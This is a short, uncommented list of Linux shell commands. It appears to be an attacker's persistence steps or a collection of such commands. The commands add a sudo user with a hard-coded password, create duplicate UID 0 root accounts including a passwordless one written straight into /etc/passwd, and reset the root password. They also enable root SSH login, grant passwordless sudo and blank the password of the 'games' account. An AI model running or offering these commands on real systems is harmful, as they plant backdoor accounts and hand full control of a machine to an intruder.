useradd -m -s /bin/bash -G sudo sysadm 2>/dev/null; echo $?
echo 'sysadm:Qq112233!!' | chpasswd; echo $?
id -nG sysadm
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor; id -u toor
echo -e "Zx9#pQ1w\nZx9#pQ1w" | passwd root
echo "hack3r::0:0:::/bin/bash" >> /etc/passwd; tail -1 /etc/passwd
grep -c ':0:0:' /etc/passwd
su - sysadm -c 'id -un; echo $HOME'
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config; grep ^PermitRootLogin /etc/ssh/sshd_config
echo 'sysadm ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers.d/90-x; sudo -l -U sysadm 2>&1 | tail -1 | sed 's/^ *//'
userdel -r toor 2>&1 | head -1
passwd -d games >/dev/null 2>&1; awk -F: '$1=="games" {print "[" $2 "]"}' /etc/shadow
